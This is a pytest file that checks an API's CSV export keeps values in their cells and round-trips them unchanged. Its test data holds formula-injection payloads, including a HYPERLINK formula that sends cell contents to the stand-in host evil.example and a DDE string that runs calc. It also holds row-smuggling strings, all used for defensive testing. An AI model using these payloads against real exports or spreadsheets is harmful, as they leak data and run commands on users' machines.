"""CSV holds values as they are: none leaves its cell, and none is changed for a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from tests.api.raw import send
from tests.service import Api

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "＝1+1",
]
BREAKING = ['a","b', "a\r\nid,label\r\n9,evil", '"', '""', "a\nb", ",", "\r", "'", "\ufeffx"]
BOTH = pytest.mark.parametrize("mount", ["", "/rest/v1"])


@BOTH
@pytest.mark.parametrize("value", [*FORMULAS, *BREAKING])
def test_a_value_stays_in_its_cell_and_comes_back_as_it_was(
    shop: Api, mount: str, value: str
) -> None:
    made = shop.post(f"{mount}/tags?select=id", json={"label": value}, headers=RETURNED)
    number = made.json()[0]["id"] if isinstance(made.json(), list) else made.json()["id"]

    answer = shop.get(
        f"{mount}/tags?select=id,label&id=eq.{number}", headers={"Accept": "text/csv"}
    )
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))

    assert rows == [["id", "label"], [str(number), value]]
    assert answer.headers["content-type"].startswith("text/csv")

    shop.delete(f"{mount}/tags?id=eq.{number}")
    again = shop.post(
        f"{mount}/tags", content=answer.text.encode(), headers={"Content-Type": "text/csv"}
    )
    assert again.status_code == 201
    assert shop.get(f"{mount}/tags?select=label&id=eq.{number}").json() == [{"label": value}]


RETURNED = {"Prefer": "return=representation"}


@BOTH
def test_a_name_that_the_caller_gives_stays_in_its_cell_too(shop: Api, mount: str) -> None:
    target = f"{mount}/tags?select=%22a%2C%0D%0Ab%22:id&limit=1"
    reply = send(shop, "GET", target, [("Accept", "text/csv")])
    rows = list(csv.reader(io.StringIO(reply.body.decode(), newline="")))

    assert rows == [["a,\r\nb"], ["1"]]
